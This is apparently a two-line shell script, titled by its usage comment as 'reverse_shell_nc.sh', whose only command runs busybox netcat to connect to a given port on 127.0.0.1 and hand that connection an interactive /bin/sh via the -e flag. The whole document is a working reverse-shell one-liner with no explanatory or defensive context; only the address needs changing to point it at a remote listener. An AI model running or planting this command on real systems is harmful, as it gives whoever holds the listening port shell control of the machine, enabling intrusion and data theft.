# usage: sh reverse_shell_nc.sh PORT
exec busybox nc 127.0.0.1 "$1" -e /bin/sh
